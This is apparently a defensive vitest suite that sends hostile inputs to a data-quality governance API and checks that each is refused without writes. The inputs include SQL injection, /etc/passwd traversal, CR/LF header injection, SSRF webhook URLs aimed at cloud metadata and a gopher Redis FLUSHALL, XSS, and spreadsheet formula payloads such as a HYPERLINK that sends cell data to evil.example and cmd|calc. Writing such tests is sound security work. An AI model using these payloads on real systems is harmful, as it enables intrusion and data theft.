/**
 * The inputs of the production loop and of governance (schedules, thresholds and webhooks,
 * publishing targets, proposals, governance settings, the audit trail and its export, monitoring,
 * table health) as an attacker meets them, on the production build, through the HTTP API and through
 * server actions: other sites, bodies larger than declared, text that is not text, 1 MB values,
 * nesting, wrong types, SQL and identifier injection in table and schema names, path traversal in
 * volume paths, cron and time-zone garbage, header injection and server-side request forgery in
 * webhook URLs, formula injection in the CSV export. Each refusal is read back through the API:
 * nothing was written.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { nestedJson } from '@/tests/support/hostile-payloads';

import { callAction, request, type Answer } from './support/client';
import { databricksUrl, localUrl } from './support/servers';

const TABLE = 'samples.sales.orders';
/** The table whose settings these tests write (local mode); no other file of the suite touches it. */
const OWN = 'samples.sales.products';
const bob = { 'x-forwarded-access-token': 'token-of-bob@example.com' };
const MODES = [
  { mode: 'local', base: localUrl, auth: {} as Record<string, string> },
  { mode: 'databricks', base: databricksUrl, auth: bob },
] as const;
const UUID = '00000000-0000-4000-8000-000000000000';
const MB = 'x'.repeat(1_000_000);

const post = (base: string, target: string, body: unknown, headers: Record<string, string> = {}) =>
  request(base, target, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...headers },
    body: typeof body === 'string' ? body : JSON.stringify(body),
  });

/** The new POST routes, each with a body it would accept, and the largest body it declares. */
const ROUTES: [string, unknown, number][] = [
  [`/api/v1/rule-sets/${TABLE}/schedule`, { cron: '0 6 * * *' }, 64_000],
  [`/api/v1/rule-sets/${TABLE}/schedule/delete`, {}, 1024],
  [`/api/v1/rule-sets/${TABLE}/thresholds`, { min_pass_rate: 0.9, fail_on_error_rows: false }, 64_000],
  [`/api/v1/rule-sets/${TABLE}/publishing`, { auto_publish: false, targets: [] }, 64_000],
  [`/api/v1/rule-sets/${TABLE}/publish`, {}, 1024],
  [`/api/v1/rule-sets/${TABLE}/governance`, { four_eyes: false }, 4_000],
  [`/api/v1/rule-sets/${TABLE}/proposals/${UUID}/approve`, {}, 16_000],
  [`/api/v1/rule-sets/${TABLE}/proposals/${UUID}/reject`, { reason: 'no' }, 16_000],
  [`/api/v1/rule-sets/${TABLE}/proposals/${UUID}/withdraw`, {}, 1024],
  [`/api/v1/rule-sets/${TABLE}/proposals/${UUID}/refresh`, {}, 1024],
  [`/api/v1/rule-sets/${TABLE}/proposals/${UUID}/comments`, { body: 'hi' }, 32_000],
];

/** The new server actions, each with arguments it would accept. */
const ACTIONS: [string, unknown][] = [
  ['saveScheduleAction', { table: TABLE, cron: '0 6 * * *' }],
  ['deleteScheduleAction', { table: TABLE }],
  ['saveThresholdsAction', { table: TABLE, min_pass_rate: 0.9, fail_on_error_rows: false }],
  ['savePublishSettingsAction', { table: TABLE, auto_publish: false, targets: [] }],
  ['publishNowAction', { table: TABLE }],
  ['saveGovernanceSettingsAction', { table: TABLE, four_eyes: true }],
  ['approveProposalAction', { table: TABLE, id: UUID }],
  ['rejectProposalAction', { table: TABLE, id: UUID, reason: 'no' }],
  ['withdrawProposalAction', { table: TABLE, id: UUID }],
  ['refreshProposalAction', { table: TABLE, id: UUID }],
  ['commentOnProposalAction', { table: TABLE, id: UUID, body: 'hi' }],
];

describe.each(MODES)('$mode mode', ({ base, auth }) => {
  describe('another site posting to the new routes and actions: 403', () => {
    const hostile: Record<string, string>[] = [
      { origin: 'https://evil.example.com' },
      { 'sec-fetch-site': 'cross-site' },
    ];
    it.each(ROUTES.flatMap(([target, body]) => hostile.map((h) => [target, body, h] as const)))(
      'POST %s with %j',
      async (target, body, headers) => {
        const res = await post(base, target, body, { ...auth, ...headers });
        expect(res.status).toBe(403);
        expect(res.body.error?.code).toBe('forbidden');
      },
    );
    it.each(ACTIONS.flatMap(([name, args]) => hostile.map((h) => [name, args, h] as const)))(
      '%s with %j',
      async (name, args, headers) => {
        const res = await callAction(base, name, [args], { ...auth, ...headers });
        expect(res.status).toBe(403);
        expect(res.result).toBeUndefined();
      },
    );
    it.each([
      '/api/v1/audit/export?format=csv',
      '/api/v1/audit',
      '/api/v1/monitoring',
      `/api/v1/tables/${TABLE}/health`,
    ])('a cross-site read of %s', async (target) => {
      const res = await request(base, target, {
        headers: {
          ...auth,
          origin: 'https://evil.example.com',
          'sec-fetch-site': 'cross-site',
          'sec-fetch-mode': 'cors',
        },
      });
      expect(res.status).toBe(403);
    });
  });

  describe('bodies larger than the route declares: 413', () => {
    it.each(ROUTES)('%s', async (target, _body, max) => {
      const res = await post(base, target, `{"x":"${'y'.repeat(max)}"}`, auth);
      expect(res.status).toBe(413);
      expect(res.body.error?.code).toBe('payload_too_large');
    });
  });

  describe('text with NUL or lone surrogates, 1 MB values, nesting and wrong types: 400 at the schema', () => {
    const NUL = '\u0000';
    const LONE = '\ud800';
    const cases: [string, string, unknown][] = [
      // schedules
      ['schedule', 'a NUL in cron', { cron: `0 6 * * *${NUL}` }],
      ['schedule', 'a lone surrogate in cron', { cron: `0 6 * * ${LONE}` }],
      ['schedule', 'a NUL in timezone', { cron: '0 6 * * *', timezone: `UTC${NUL}` }],
      ['schedule', 'a lone surrogate in timezone', { cron: '0 6 * * *', timezone: `Europe/Paris${LONE}` }],
      ['schedule', 'a NUL in an output', { cron: '0 6 * * *', outputs: { quarantine_table: `a.b.c${NUL}` } }],
      [
        'schedule',
        'a lone surrogate in an output',
        { cron: '0 6 * * *', outputs: { metrics_table: `a.b.${LONE}` } },
      ],
      ['schedule', 'a NUL in an e-mail', { cron: '0 6 * * *', notify_emails: [`a${NUL}@example.com`] }],
      ['schedule', 'a number as cron', { cron: 6 }],
      ['schedule', 'a list as time zone', { cron: '0 6 * * *', timezone: ['UTC'] }],
      ['schedule', 'text as paused', { cron: '0 6 * * *', paused: 'yes' }],
      ['schedule', 'text as version', { cron: '0 6 * * *', version: '1' }],
      ['schedule', 'a fractional version', { cron: '0 6 * * *', version: 1.5 }],
      ['schedule', 'one address as notify_emails', { cron: '0 6 * * *', notify_emails: 'a@example.com' }],
      ['schedule', 'outputs as text', { cron: '0 6 * * *', outputs: 'a.b.c' }],
      ['schedule', 'an unknown output', { cron: '0 6 * * *', outputs: { errors_table: 'a.b.c' } }],
      [
        'schedule',
        'deeply nested outputs',
        { cron: '0 6 * * *', outputs: JSON.parse(nestedJson(1000)) as object },
      ],
      // thresholds
      [
        'thresholds',
        'a NUL in a rule name',
        { min_pass_rate: 0.9, fail_on_error_rows: false, rules: [{ rule: `r${NUL}` }] },
      ],
      [
        'thresholds',
        'a lone surrogate in a rule name',
        { min_pass_rate: 0.9, fail_on_error_rows: false, rules: [{ rule: `r${LONE}` }] },
      ],
      [
        'thresholds',
        'a NUL in the webhook',
        { min_pass_rate: 0.9, fail_on_error_rows: false, webhook_url: `https://hooks.example.com/a${NUL}` },
      ],
      ['thresholds', 'a pass rate as text', { min_pass_rate: '0.9', fail_on_error_rows: false }],
      ['thresholds', 'a pass rate above 1', { min_pass_rate: 95, fail_on_error_rows: false }],
      ['thresholds', 'a negative pass rate', { min_pass_rate: -0.1, fail_on_error_rows: false }],
      [
        'thresholds',
        'rules as an object',
        { min_pass_rate: 0.9, fail_on_error_rows: false, rules: { rule: 'r' } },
      ],
      [
        'thresholds',
        'a webhook as a list',
        { min_pass_rate: 0.9, fail_on_error_rows: false, webhook_url: ['https://a.example.com'] },
      ],
      // publishing
      [
        'publishing',
        'a NUL in a volume path',
        { auto_publish: false, targets: [{ kind: 'volume_file', path: `/Volumes/c/s/v/x${NUL}.yml` }] },
      ],
      [
        'publishing',
        'a lone surrogate in a volume path',
        { auto_publish: false, targets: [{ kind: 'volume_file', path: `/Volumes/c/s/v/${LONE}.yml` }] },
      ],
      [
        'publishing',
        'a NUL in a Lakebase table',
        { auto_publish: false, targets: [{ kind: 'lakebase_table', table: `dqx_checks.checks${NUL}` }] },
      ],
      [
        'publishing',
        'an unknown kind',
        { auto_publish: false, targets: [{ kind: 'dbfs_file', path: '/tmp/x.yml' }] },
      ],
      ['publishing', 'auto_publish as text', { auto_publish: 'true', targets: [] }],
      [
        'publishing',
        'targets as an object',
        { auto_publish: false, targets: { kind: 'local_file', format: 'yaml' } },
      ],
      // governance
      ['governance', 'a NUL in the steward group', { four_eyes: true, steward_group: `stewards${NUL}` }],
      [
        'governance',
        'a lone surrogate in the steward group',
        { four_eyes: true, steward_group: `stewards${LONE}` },
      ],
      ['governance', 'four_eyes as text', { four_eyes: 'true' }],
      ['governance', 'a group as an object', { four_eyes: true, steward_group: { name: 'g' } }],
      // proposals
      [`proposals/${UUID}/reject`, 'a NUL in the reason', { reason: `no${NUL}` }],
      [`proposals/${UUID}/reject`, 'a lone surrogate in the reason', { reason: `no${LONE}` }],
      [`proposals/${UUID}/reject`, 'a reason as a list', { reason: ['no'] }],
      [`proposals/${UUID}/comments`, 'a NUL in a comment', { body: `hi${NUL}` }],
      [`proposals/${UUID}/comments`, 'a comment as a number', { body: 5 }],
      [`proposals/${UUID}/approve`, 'a lone surrogate in the comment', { comment: `ok${LONE}` }],
      [
        `proposals/${UUID}/approve`,
        'a deeply nested comment',
        { comment: JSON.parse(nestedJson(1000)) as object },
      ],
    ];
    it.each(cases)('%s with %s', async (sub, _what, body) => {
      const res = await post(base, `/api/v1/rule-sets/${TABLE}/${sub}`, body, auth);
      expect(res.status).toBe(400);
      expect(res.body.error?.code).toBe('bad_request');
    });

    it.each([
      ['saveScheduleAction', '1 MB in cron', { table: TABLE, cron: MB }, 'cron'],
      [
        'saveScheduleAction',
        '1 MB in timezone',
        { table: TABLE, cron: '0 6 * * *', timezone: MB },
        'timezone',
      ],
      [
        'saveScheduleAction',
        '1 MB in outputs.valid_table',
        { table: TABLE, cron: '0 6 * * *', outputs: { valid_table: MB } },
        'outputs.valid_table',
      ],
      [
        'saveScheduleAction',
        '1 MB in notify_emails.0',
        { table: TABLE, cron: '0 6 * * *', notify_emails: [`${MB}@example.com`] },
        'notify_emails.0',
      ],
      [
        'saveThresholdsAction',
        '1 MB in webhook_url',
        {
          table: TABLE,
          min_pass_rate: null,
          fail_on_error_rows: false,
          webhook_url: `https://a.example.com/${MB}`,
        },
        'webhook_url',
      ],
      [
        'saveThresholdsAction',
        '1 MB in rules.0.rule',
        { table: TABLE, min_pass_rate: null, fail_on_error_rows: false, rules: [{ rule: MB }] },
        'rules.0.rule',
      ],
      [
        'savePublishSettingsAction',
        '1 MB in targets.0.path',
        {
          table: TABLE,
          auto_publish: false,
          targets: [{ kind: 'volume_file', path: `/Volumes/c/s/v/${MB}.yml` }],
        },
        'targets.0.path',
      ],
      [
        'saveGovernanceSettingsAction',
        '1 MB in steward_group',
        { table: TABLE, four_eyes: true, steward_group: MB },
        'steward_group',
      ],
      ['rejectProposalAction', '1 MB in reason', { table: TABLE, id: UUID, reason: MB }, 'reason'],
      ['commentOnProposalAction', '1 MB in body', { table: TABLE, id: UUID, body: MB }, 'body'],
      ['approveProposalAction', '1 MB in comment', { table: TABLE, id: UUID, comment: MB }, 'comment'],
      ['saveScheduleAction', 'a NUL in cron', { table: TABLE, cron: '0 6 * * *\u0000' }, 'cron'],
      [
        'saveGovernanceSettingsAction',
        'a NUL in steward_group',
        { table: TABLE, four_eyes: true, steward_group: 'g\u0000' },
        'steward_group',
      ],
      [
        'saveThresholdsAction',
        'a lone surrogate in rules.0.rule',
        { table: TABLE, min_pass_rate: null, fail_on_error_rows: false, rules: [{ rule: '\ud800' }] },
        'rules.0.rule',
      ],
      ['withdrawProposalAction', 'traversal in id', { table: TABLE, id: '../../etc/passwd' }, 'id'],
      ['deleteScheduleAction', 'a NUL in table', { table: `${TABLE}\u0000` }, 'table'],
    ])('%s with %s', async (name, _what, args, field) => {
      const res = await callAction(base, name, [args], auth);
      expect(res.status).toBe(200);
      expect(res.result).toMatchObject({ ok: false, code: 'bad_request' });
      expect(Object.keys(res.result!.fieldErrors ?? {})).toContain(field);
    });

    it('a server action given a schedule nested 5,000 deep: 400 before the framework decodes it', async () => {
      const raw = `[{"table":"${TABLE}","cron":"0 6 * * *","outputs":${nestedJson(5000)}}]`;
      const res = await callAction(base, 'saveScheduleAction', { raw }, auth);
      expect(res.status).toBe(400);
      expect(res.body.error?.message).toMatch(/nest more than \d+ levels/);
    });
  });

  describe('names and ids in paths', () => {
    it.each([
      `/api/v1/tables/${TABLE}%00/health`,
      '/api/v1/tables/..%2F..%2Fetc%2Fpasswd/health',
      '/api/v1/tables/%2e%2e%2f%2e%2e%2fetc%2fpasswd/health',
      `/api/v1/tables/${'a'.repeat(10_000)}.b.c/health`,
      "/api/v1/tables/a.b.c'%20OR%20'1'='1/health",
      `/api/v1/rule-sets/${TABLE}%00/schedule`,
      '/api/v1/rule-sets/a.b.c%3B%20--/thresholds',
      '/api/v1/rule-sets/..%2F..%2Fetc%2Fpasswd/publishing',
      '/api/v1/rule-sets/..%2F..%2Fetc%2Fpasswd/rights',
      `/api/v1/rule-sets/${TABLE}%00/governance`,
      '/api/v1/rule-sets/%2e%2e%2f%2e%2e/alerts',
      `/api/v1/rule-sets/${TABLE}/proposals/..%2F..%2Fetc%2Fpasswd`,
      `/api/v1/rule-sets/${TABLE}/proposals/not-a-uuid/impact`,
      `/api/v1/rule-sets/${TABLE}/proposals/${UUID}%00`,
      `/api/v1/rule-sets/${TABLE}/proposals?status=approved'%20OR%201=1--`,
    ])('GET %s: 400', async (target) => {
      const res = await request(base, target, { headers: auth });
      expect(res.status).toBe(400);
      expect(res.text).not.toMatch(/root:x:0:0/);
    });

    it.each(['withdraw', 'refresh', 'approve'])(
      'POST a proposal id with traversal to %s: 400',
      async (verb) => {
        const res = await post(base, `/api/v1/rule-sets/${TABLE}/proposals/..%2F${UUID}/${verb}`, {}, auth);
        expect(res.status).toBe(400);
      },
    );
  });

  describe('audit filters: 400, never a 500 or someone else’s events', () => {
    it.each([
      'table=%00',
      'actor=a%00b',
      "action=version.saved'%20OR%201=1--",
      'action=version.%25',
      'from=2026-13-45',
      "from=1'%20OR%20'1'='1",
      'to=2026-12-07T25:00:00Z',
      `actor=${'a'.repeat(300)}`,
      'page_size=1e3',
      'page_size=0x10',
      'page_size=201',
      `cursor=${'z'.repeat(600)}`,
    ])('GET /api/v1/audit?%s', async (query) => {
      const res = await request(base, `/api/v1/audit?${query}`, { headers: auth });
      expect(res.status).toBe(400);
      expect(res.body.error?.code).toBe('bad_request');
    });
    it.each(['format=xlsx', 'format=csv&table=%00', 'format=csv&from=yesterday', "format=json&action=*'--"])(
      'GET /api/v1/audit/export?%s',
      async (query) => {
        const res = await request(base, `/api/v1/audit/export?${query}`, { headers: auth });
        expect(res.status).toBe(400);
      },
    );
    it('a cursor that is not one the API made', async () => {
      const res = await request(base, '/api/v1/audit?cursor=eyJ4IjoiJyBPUiAxPTEtLSJ9', { headers: auth });
      expect(res.status).toBe(400);
    });
  });

  describe('SQL and identifier injection in target and output names: 400 naming the field', () => {
    it.each([
      ['lakebase_table', { kind: 'lakebase_table', table: 'public; DROP TABLE x' }],
      ['lakebase_table', { kind: 'lakebase_table', table: 'dqx_checks.checks; DROP TABLE dqx.rules' }],
      ['lakebase_table', { kind: 'lakebase_table', table: '"dqx_checks".checks' }],
      ['lakebase_table', { kind: 'lakebase_table', table: 'dqx_checks.`checks`' }],
      ['lakebase_table', { kind: 'lakebase_table', table: 'dqx.rules' }],
      ['lakebase_table', { kind: 'lakebase_table', table: 'pg_catalog.pg_authid' }],
      ['lakebase_table', { kind: 'lakebase_table', table: 'public.checks' }],
      ['local_table', { kind: 'local_table', table: "main.checks'--" }],
      ['local_table', { kind: 'local_table', table: 'main.checks; ATTACH' }],
      ['uc_table', { kind: 'uc_table', table: 'a.b.c; --' }],
      ['uc_table', { kind: 'uc_table', table: 'a.b.`c` DROP' }],
      ['uc_table', { kind: 'uc_table', table: 'a.b' }],
      ['volume_file', { kind: 'volume_file', path: '/Volumes/c/s/v/../../../../etc/passwd.yml' }],
      ['volume_file', { kind: 'volume_file', path: '../../etc/passwd.yml' }],
      ['volume_file', { kind: 'volume_file', path: '/etc/passwd.yml' }],
      ['volume_file', { kind: 'volume_file', path: '/Volumes/c/s/v/%2e%2e/%2e%2e/x.yml' }],
      ['volume_file', { kind: 'volume_file', path: '/Volumes/c/s/v/./x.yml' }],
      ['volume_file', { kind: 'volume_file', path: '/Volumes/c/s/v/x.yml\r\nX-Evil: 1' }],
      ['volume_file', { kind: 'volume_file', path: '/Volumes/c/s/v/x.sh' }],
      ['volume_file', { kind: 'volume_file', path: 'file:///Volumes/c/s/v/x.yml' }],
      ['volume_file', { kind: 'volume_file', path: '//Volumes/c/s/v/x.yml' }],
    ])('a %s target %j', async (_kind, target) => {
      const res = await post(
        base,
        `/api/v1/rule-sets/${TABLE}/publishing`,
        { auto_publish: false, targets: [target] },
        auth,
      );
      expect(res.status).toBe(400);
      expect(JSON.stringify(res.body.error?.details)).toContain('targets');
    });
  });
});

/** Local mode, where the local user holds every right: refusals that get past the schema, read back. */
describe('local mode: what gets past the schema is refused by the service, and nothing is written', () => {
  const base = localUrl;
  const read = async (what: string) => (await request(base, `/api/v1/rule-sets/${OWN}/${what}`)).text;
  /** Send `send` and check that the table's settings `what` (schedule, thresholds, …) read back unchanged. */
  const nothingWritten = async (what: string, send: () => Promise<Answer>): Promise<Answer> => {
    const before = await read(what);
    const answer = await send();
    expect(await read(what)).toBe(before);
    return answer;
  };

  it.each([
    ['a 6-field cron', { cron: '* * * * * *' }, 'cron'],
    ['a 7-field cron', { cron: '0 0 6 * * * 2026' }, 'cron'],
    ['a huge minute', { cron: `${'9'.repeat(150)} * * * *` }, 'cron'],
    ['a minute out of range', { cron: '99 6 * * *' }, 'cron'],
    ['a huge step', { cron: '*/99999999999 * * * *' }, 'cron'],
    ['a cron with a quote', { cron: "0 6 * * *'; DROP TABLE dqx.rules; --" }, 'cron'],
    ['an @reboot cron', { cron: '@reboot' }, 'cron'],
    ['a time zone climbing out', { cron: '0 6 * * *', timezone: 'Etc/../../x' }, 'timezone'],
    ['a time zone path', { cron: '0 6 * * *', timezone: '../../../../etc/passwd' }, 'timezone'],
    ['an absolute time zone file', { cron: '0 6 * * *', timezone: '/usr/share/zoneinfo/UTC' }, 'timezone'],
    ['a POSIX TZ string', { cron: '0 6 * * *', timezone: 'EST5EDT,M3.2.0,M11.1.0' }, 'timezone'],
    ['a 100-character time zone', { cron: '0 6 * * *', timezone: 'A'.repeat(100) }, 'timezone'],
    [
      'a quarantine table with SQL',
      { cron: '0 6 * * *', outputs: { quarantine_table: 'a.b.c; --' } },
      'outputs.quarantine_table',
    ],
    [
      'a quarantine table in back-quotes with SQL',
      { cron: '0 6 * * *', outputs: { quarantine_table: 'a.b.`c; DROP TABLE x`' } },
      'outputs.quarantine_table',
    ],
    [
      'a metrics table of two parts',
      { cron: '0 6 * * *', outputs: { metrics_table: 'b.c' } },
      'outputs.metrics_table',
    ],
    [
      'a valid table with a slash',
      { cron: '0 6 * * *', outputs: { valid_table: 'a.b/../c.d' } },
      'outputs.valid_table',
    ],
    [
      'the checked table as output',
      { cron: '0 6 * * *', outputs: { valid_table: OWN } },
      'outputs.valid_table',
    ],
    [
      'an e-mail with CR/LF',
      { cron: '0 6 * * *', notify_emails: ['a@example.com\r\nBcc: victim@example.com'] },
      'notify_emails.0',
    ],
    [
      'an e-mail with LF',
      { cron: '0 6 * * *', notify_emails: ['a@example.com\nX-Evil: 1'] },
      'notify_emails.0',
    ],
    [
      'two addresses in one',
      { cron: '0 6 * * *', notify_emails: ['a@example.com, b@example.com'] },
      'notify_emails.0',
    ],
    [
      'a display-name address',
      { cron: '0 6 * * *', notify_emails: ['Eve <eve@example.com>'] },
      'notify_emails.0',
    ],
    [
      '21 addresses',
      { cron: '0 6 * * *', notify_emails: Array.from({ length: 21 }, (_, i) => `u${i}@example.com`) },
      'notify_emails',
    ],
  ])('a schedule with %s: 400 naming %s', async (_what, body, field) => {
    const res = await nothingWritten('schedule', () => post(base, `/api/v1/rule-sets/${OWN}/schedule`, body));
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body.error)).toContain(field);
  });

  it.each([
    ['governance', 'a NUL in the steward group', { four_eyes: true, steward_group: 'stewards\u0000' }],
    [
      'governance',
      'a lone surrogate in the steward group',
      { four_eyes: true, steward_group: 'stewards\ud800' },
    ],
    [
      'thresholds',
      'a lone surrogate in a rule',
      { min_pass_rate: null, fail_on_error_rows: false, rules: [{ rule: 'r\udc00' }] },
    ],
    [
      'thresholds',
      'a NUL in a rule',
      { min_pass_rate: null, fail_on_error_rows: false, rules: [{ rule: 'r\u0000' }] },
    ],
    [
      'schedule',
      'a lone surrogate in an output',
      { cron: '0 6 * * *', outputs: { quarantine_table: 'a.b.q\ud800' } },
    ],
    [
      'publishing',
      'a lone surrogate in a table target',
      { auto_publish: false, targets: [{ kind: 'uc_table', table: 'a.b.\ud800' }] },
    ],
  ])('%s with %s: 400 and nothing written', async (what, _case, body) => {
    const res = await nothingWritten(what, () => post(base, `/api/v1/rule-sets/${OWN}/${what}`, body));
    expect(res.status).toBe(400);
    expect(res.body.error?.code).toBe('bad_request');
  });

  it.each([
    ['the cloud metadata service', 'http://169.254.169.254/latest/meta-data/'],
    ['the metadata service as mapped IPv6', 'http://[::ffff:169.254.169.254]/'],
    ['the metadata service in hex IPv6', 'http://[::ffff:a9fe:a9fe]/'],
    ['a link-local IPv6 address', 'http://[fe80::1]/'],
    ['a file URL', 'file:///etc/passwd'],
    ['a gopher URL', 'gopher://127.0.0.1:6379/_FLUSHALL'],
    ['a javascript URL', 'javascript:alert(1)'],
    ['a URL with credentials', 'https://user:secret@hooks.example.com/x'],
    ['a relative URL', '/api/v1/audit'],
    ['a URL with a CR/LF in the host', 'https://hooks.example.com\r\nX-Evil: 1/'],
  ])('a webhook at %s: 400 naming webhook_url', async (_what, url) => {
    const res = await nothingWritten('thresholds', () =>
      post(base, `/api/v1/rule-sets/${OWN}/thresholds`, {
        min_pass_rate: 0.5,
        fail_on_error_rows: true,
        webhook_url: url,
      }),
    );
    expect(res.status).toBe(400);
    expect(JSON.stringify(res.body.error)).toContain('webhook_url');
  });

  it('a webhook URL with CR/LF in its path cannot add a header: what is kept has none', async () => {
    const res = await post(base, `/api/v1/rule-sets/${OWN}/thresholds`, {
      min_pass_rate: 0.5,
      fail_on_error_rows: false,
      webhook_url: 'https://hooks.example.com/a\r\nX-Evil: 1',
    });
    try {
      if (res.status === 200) {
        const shown = await read('thresholds');
        expect(shown).not.toMatch(/\r|\n|\\r|\\n|X-Evil: 1/);
      } else expect(res.status).toBe(400);
    } finally {
      await post(base, `/api/v1/rule-sets/${OWN}/thresholds`, {
        min_pass_rate: null,
        fail_on_error_rows: false,
        webhook_url: null,
      });
    }
  });

  it.each([['a steward group with SQL', { four_eyes: true, steward_group: "stewards' OR '1'='1" }]])(
    'governance with %s is kept as text, never as SQL',
    async (_what, body) => {
      const res = await post(base, `/api/v1/rule-sets/${OWN}/governance`, body);
      try {
        expect(res.status).toBe(200);
        expect(JSON.parse(await read('governance'))).toMatchObject({
          four_eyes: true,
          steward_group: body.steward_group,
        });
      } finally {
        await post(base, `/api/v1/rule-sets/${OWN}/governance`, { four_eyes: false, steward_group: null });
      }
    },
  );

  describe('proposals', () => {
    let id: string;
    beforeAll(async () => {
      const saved = await post(base, `/api/v1/rule-sets/${OWN}/versions`, {
        propose: true,
        rules: [
          {
            name: 'sku_present',
            criticality: 'error',
            check: { function: 'is_not_null', arguments: { column: 'sku' } },
          },
        ],
      });
      expect(saved.status).toBe(201);
      id = (saved.body as { proposal: { id: string } }).proposal.id;
    });
    afterAll(async () => {
      await post(base, `/api/v1/rule-sets/${OWN}/proposals/${id}/withdraw`, {});
    });
    const proposal = async () =>
      (await request(base, `/api/v1/rule-sets/${OWN}/proposals/${id}`)).body as Record<string, unknown>;

    it('a proposal of one table through the path of another: 404, and it stays open', async () => {
      const res = await post(base, `/api/v1/rule-sets/${TABLE}/proposals/${id}/reject`, {
        reason: 'wrong table',
      });
      expect(res.status).toBe(404);
      expect(await proposal()).toMatchObject({ status: 'proposed' });
    });

    it.each([
      ['reject', { reason: '   ' }],
      ['reject', { reason: 'x'.repeat(2001) }],
      ['reject', {}],
      ['reject', { reason: 'no', status: 'approved' }],
      ['comments', { body: '' }],
      ['comments', { body: 'x'.repeat(4001) }],
      ['comments', { body: 'hi', author: 'someone-else@example.com' }],
      ['approve', { comment: 'ok', version: 1 }],
    ])('%s with %j: 400, and the proposal is unchanged', async (verb, body) => {
      const was = await proposal();
      const res = await post(base, `/api/v1/rule-sets/${OWN}/proposals/${id}/${verb}`, body);
      expect(res.status).toBe(400);
      expect(await proposal()).toEqual(was);
    });

    it('a comment is kept as text: markup and formulas come back as they were written', async () => {
      const text =
        '<img src=x onerror=alert(1)> =HYPERLINK("http://evil.example") \'; DROP TABLE dqx.proposals; --';
      const res = await post(base, `/api/v1/rule-sets/${OWN}/proposals/${id}/comments`, { body: text });
      expect(res.status).toBe(201);
      expect(JSON.stringify(await proposal())).toContain(JSON.stringify(text).slice(1, -1));
    });
  });

  it('the CSV export makes formulas a spreadsheet would run inert', async () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
    ];
    for (const id of formulas) {
      const res = await post(
        base,
        `/api/v1/rule-sets/${OWN}/governance`,
        { four_eyes: false, steward_group: null },
        { 'x-request-id': id },
      );
      expect(res.status).toBe(200);
    }
    const csv = await request(base, `/api/v1/audit/export?format=csv&table=${OWN}&action=settings.*`);
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/^text\/csv/);
    for (const id of formulas) expect(csv.text).toContain(`"'${id.replaceAll('"', '""')}"`);
    // no cell of any row starts with a formula character
    const cells = parseCsv(csv.text).flat();
    expect(cells.length).toBeGreaterThan(10 * formulas.length);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });

  it('audit filters written as SQL or patterns match nothing: no event leaks through them', async () => {
    const saved = await post(base, `/api/v1/rule-sets/${OWN}/governance`, {
      four_eyes: false,
      steward_group: null,
    });
    expect(saved.status).toBe(200);
    const items = async (query: string) => {
      const res = await request(base, `/api/v1/audit?${query}`);
      expect(res.status).toBe(200);
      return (res.body as { items: unknown[] }).items;
    };
    expect((await items(`table=${OWN}`)).length).toBeGreaterThan(0); // there is something to leak
    for (const query of [
      "actor=x'%20OR%20'1'='1",
      'actor=%25',
      'actor=_%25',
      "action=settings.changed'--",
      'table=samples.sales.%25',
    ]) {
      const res = await request(base, `/api/v1/audit?${query}`);
      if (res.status === 200) expect((res.body as { items: unknown[] }).items, query).toEqual([]);
      else expect(res.status, query).toBe(400);
    }
  });

  it('health of a table that is no table: 400 or 404, never 200 or 503', async () => {
    for (const name of ['a.b.c;--', 'samples.sales.orders_dq_quarantine', '`a`.`b`.`c`']) {
      const res = await request(base, `/api/v1/tables/${encodeURIComponent(name)}/health`);
      expect([400, 404]).toContain(res.status);
    }
  });
});

/** Rows of cells of RFC 4180 CSV (quoted cells with "" for a quote). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}
